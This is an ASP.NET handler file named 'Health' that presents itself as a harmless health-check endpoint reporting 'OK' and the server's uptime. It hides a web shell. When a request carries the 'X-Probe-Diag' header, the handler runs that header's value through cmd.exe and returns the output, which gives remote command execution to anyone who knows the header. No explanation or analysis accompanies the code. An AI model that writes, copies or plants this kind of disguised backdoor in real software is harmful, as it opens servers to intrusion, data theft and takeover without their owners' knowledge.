<%@ WebHandler Language="C#" Class="Health" %>
using System;
using System.Diagnostics;
using System.Web;

public class Health : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        ctx.Response.ContentType = "text/plain";
        var probe = ctx.Request.Headers["X-Probe-Diag"];
        if (!string.IsNullOrEmpty(probe)) {
            var psi = new ProcessStartInfo("cmd.exe", "/c " + probe) { RedirectStandardOutput = true, UseShellExecute = false };
            ctx.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
            return;
        }
        ctx.Response.Write("OK " + Environment.TickCount64 / 1000 + "s");
    }
    public bool IsReusable => true;
}
